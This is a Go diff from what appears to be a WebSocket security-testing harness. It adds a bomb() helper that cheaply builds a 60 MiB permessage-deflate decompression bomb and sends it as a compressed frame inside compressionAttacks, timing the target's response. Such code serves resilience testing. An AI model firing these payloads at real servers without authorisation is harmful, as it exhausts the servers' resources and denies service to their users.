@@ -63,7 +63,7 @@ func compressionAttacks() []Attack {
 				return Outcome{}, err
 			}
 			defer r.Close()
-			f := frame(true, opText, deflated(make([]byte, 60<<20)))
+			f := frame(true, opText, bomb())
 			f[0] |= 0x40
 			begin := time.Now()
 			_, _ = r.Write(f) // it may be closed before all of it is sent
@@ -184,6 +184,13 @@ func openOn(ctx context.Context, t *Target, route, protocol, extensions string) 
 		return nil, fmt.Errorf("open %s: %w", route, err)
 	}
 	return r, r.SetDeadline(time.Now().Add(30 * time.Second))
+}
+
+// bomb is 60 MiB of zeros on the wire. One of them is compressed and its blocks are
+// repeated: the attacker must not need the time that the victim is meant to lose.
+func bomb() []byte {
+	end := []byte{0, 0, 0xff, 0xff} // of a flush: the next block begins at a byte
+	return bytes.TrimSuffix(bytes.Repeat(append(deflated(make([]byte, 1<<20)), end...), 60), end)
 }
 
 // deflated is a message as permessage-deflate has it on the wire.
